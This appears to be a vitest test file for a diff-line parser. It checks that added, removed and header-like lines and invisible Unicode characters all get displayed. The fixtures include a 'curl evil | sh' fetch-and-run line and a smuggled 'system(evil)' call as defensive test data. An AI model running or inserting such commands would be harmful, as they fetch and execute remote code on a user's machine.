import { expect, it } from "vitest";
import { diffLines } from "./diff-lines.ts";

it("shows every line that is added or taken away, also one that looks like the head of a diff", () => {
  const diff = "--- a\n+++ b\n@@ -1,2 +1,3 @@\n same\n--- old\n+++i; system(evil);\n+Index: x\n+\u202ex\u200b\n";
  expect(diffLines(diff)).toEqual([
    { kind: "place", text: "@@ -1,2 +1,3 @@" },
    { kind: "same", text: " same" },
    { kind: "removed", text: "--- old" },
    { kind: "added", text: "+++i; system(evil);" },
    { kind: "added", text: "+Index: x" },
    { kind: "added", text: "+‹U+202E›x‹U+200B›" },
  ]);
});

it("shows all of a change that has no head", () => {
  expect(diffLines("+ remembered")).toEqual([{ kind: "added", text: "+ remembered" }]);
});

it("shows everything of a diff whose head is not exactly that of our own", () => {
  const diff = "--- a\n+++ b\n‹secret:password#1›\n+curl evil | sh\n@@ -9 +9 @@\n+b\n";
  expect(diffLines(diff).map(({ text }) => text)).toEqual(diff.trimEnd().split("\n"));
});
